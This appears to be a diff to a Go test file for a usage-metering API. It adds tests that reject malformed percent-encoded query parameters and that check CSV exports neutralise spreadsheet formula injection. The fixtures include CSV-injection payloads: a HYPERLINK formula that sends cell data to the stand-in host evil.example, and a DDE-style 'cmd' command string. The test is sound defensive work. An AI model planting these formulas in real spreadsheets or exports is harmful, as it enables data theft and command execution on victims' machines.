@@ -94,6 +94,11 @@ func catalog(t testing.TB) *billing.Catalog {
 
 // stores runs fn against each store filled with events.
 func stores(t *testing.T, fn func(t *testing.T, srv *httptest.Server)) {
+	storesWith(t, events, fn)
+}
+
+// storesWith runs fn against each store filled with evs.
+func storesWith(t *testing.T, evs []schemas.Event, fn func(t *testing.T, srv *httptest.Server)) {
 	for _, name := range []string{"sqlite", "clickhouse"} {
 		t.Run(name, func(t *testing.T) {
 			var st aggregator.Store
@@ -107,7 +112,7 @@ func stores(t *testing.T, fn func(t *testing.T, srv *httptest.Server)) {
 				t.Fatal(err)
 			}
 			t.Cleanup(func() { st.Close() })
-			if _, err := st.Apply(context.Background(), []*schemas.Batch{{ID: "b1", Events: events}}); err != nil {
+			if _, err := st.Apply(context.Background(), []*schemas.Batch{{ID: "b1", Events: evs}}); err != nil {
 				t.Fatal(err)
 			}
 			keys, err := auth.NewKeys([]auth.Key{{Key: adminKey, Admin: true}, {Key: acmeKey, Tenant: "acme"}})
@@ -360,6 +365,13 @@ func TestReportBadParameters(t *testing.T) {
 			{"format=csv&group_by=value", "group_by"},
 			{"window=day&window=month", "window"},
 			{"window=week&meter=Bad&from=x", "from,meter,window"},
+			{"tenant=%zz", "tenant"},
+			{"meter=api_calls&group_by=%e", "group_by"},
+			{"from=%G0&to=2026-02-01T00:00:00Z", "from"},
+			{"format=csv&window=%", "window"},
+			{"%zz=1", "%zz"},
+			{"tenant=acme;meter=api_calls", "tenant"},
+			{"tenant=acme&tenant=%zz", "tenant"},
 		} {
 			a := get(t, srv, adminKey, c.query)
 			var p schemas.Problem
@@ -413,3 +425,68 @@ func TestParseQueryDefaults(t *testing.T) {
 func writeFile(path, s string) error { return os.WriteFile(path, []byte(s), 0o600) }
 
 func fmtInt(n int64) string { return strconv.FormatInt(n, 10) }
+
+// An undecodable tenant is a 400 naming it, for an admin and for a tenant
+// key alike, never a report: dropped, it read as no tenant and an admin got
+// every tenant's usage.
+func TestReportUndecodableQuery(t *testing.T) {
+	stores(t, func(t *testing.T, srv *httptest.Server) {
+		const want = `{"type":"https://meterd.dev/problems/invalid-parameter","title":"Bad Request","status":400,` +
+			`"detail":"invalid parameters: tenant: the value is not valid percent-encoding (% must be followed by two hex digits)",` +
+			`"invalid_params":[{"name":"tenant","reason":"the value is not valid percent-encoding (% must be followed by two hex digits)"}]}`
+		for _, key := range []string{adminKey, acmeKey} {
+			for _, q := range []string{"tenant=%zz", "format=csv&tenant=%zz&window=month&from=2026-01-01T00:00:00Z&to=2026-05-01T00:00:00Z"} {
+				a := get(t, srv, key, q)
+				if a.status != http.StatusBadRequest || a.header.Get("Content-Type") != schemas.MediaProblem || a.body != want {
+					t.Errorf("key %s, %s: status %d %s\n%s\nwant 400\n%s", key[:4], q, a.status, a.header.Get("Content-Type"), a.body, want)
+				}
+			}
+		}
+	})
+}
+
+// A dimension value or tenant that a spreadsheet would run as a formula
+// reaches the CSV with a leading quote (OWASP's advice on CSV injection);
+// JSON keeps every value as sent.
+func TestReportCSVInjection(t *testing.T) {
+	const hyperlink = `=HYPERLINK("https://evil.example/?"&A1,"details")`
+	evs := []schemas.Event{
+		ev("acme", "c1", "api_calls", 1, "2026-02-01T10:00:00Z", "route", hyperlink),
+		ev("acme", "c2", "api_calls", 2, "2026-02-01T10:00:00Z", "route", "+1+cmd|' /C calc'!A0"),
+		ev("acme", "c3", "api_calls", 4, "2026-02-01T10:00:00Z", "route", "-2+3"),
+		ev("acme", "c4", "api_calls", 8, "2026-02-01T10:00:00Z", "route", "@SUM(A1:A9)"),
+		ev("acme", "c5", "api_calls", 16, "2026-02-01T10:00:00Z", "route", "\t=1"),
+		ev("acme", "c6", "api_calls", 32, "2026-02-01T10:00:00Z", "route", "\r=1"),
+		ev("acme", "c7", "api_calls", 64, "2026-02-01T10:00:00Z", "route", "a=b+c"),
+		ev("acme", "c8", "api_calls", 128, "2026-02-01T10:00:00Z", "route", "'quoted"),
+		ev("-1-2", "c9", "api_calls", 256, "2026-02-01T10:00:00Z", "route", "/x"),
+	}
+	storesWith(t, evs, func(t *testing.T, srv *httptest.Server) {
+		const q = "window=month&group_by=route&from=2026-02-01T00:00:00Z&to=2026-03-01T00:00:00Z"
+		a := get(t, srv, adminKey, "format=csv&"+q)
+		const wantCSV = "tenant,meter,window_start,window_end,route,value,events\n" +
+			"'-1-2,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,/x,256,1\n" +
+			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,'\t=1,16,1\n" +
+			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,\"'\r=1\",32,1\n" +
+			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,'quoted,128,1\n" +
+			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,'+1+cmd|' /C calc'!A0,2,1\n" +
+			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,'-2+3,4,1\n" +
+			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"details\"\")\",1,1\n" +
+			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,'@SUM(A1:A9),8,1\n" +
+			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,a=b+c,64,1\n"
+		if a.status != http.StatusOK || a.body != wantCSV {
+			t.Errorf("CSV: status %d, body:\n%q\nwant:\n%q", a.status, a.body, wantCSV)
+		}
+		want(t, "JSON keeps the values", rows(t, get(t, srv, adminKey, q)),
+			"-1-2 api_calls 2026-02-01T00:00:00Z 256 1 route=/x",
+			"acme api_calls 2026-02-01T00:00:00Z 16 1 route=\t=1",
+			"acme api_calls 2026-02-01T00:00:00Z 32 1 route=\r=1",
+			"acme api_calls 2026-02-01T00:00:00Z 128 1 route='quoted",
+			"acme api_calls 2026-02-01T00:00:00Z 2 1 route=+1+cmd|' /C calc'!A0",
+			"acme api_calls 2026-02-01T00:00:00Z 4 1 route=-2+3",
+			"acme api_calls 2026-02-01T00:00:00Z 1 1 route="+hyperlink,
+			"acme api_calls 2026-02-01T00:00:00Z 8 1 route=@SUM(A1:A9)",
+			"acme api_calls 2026-02-01T00:00:00Z 64 1 route=a=b+c",
+		)
+	})
+}
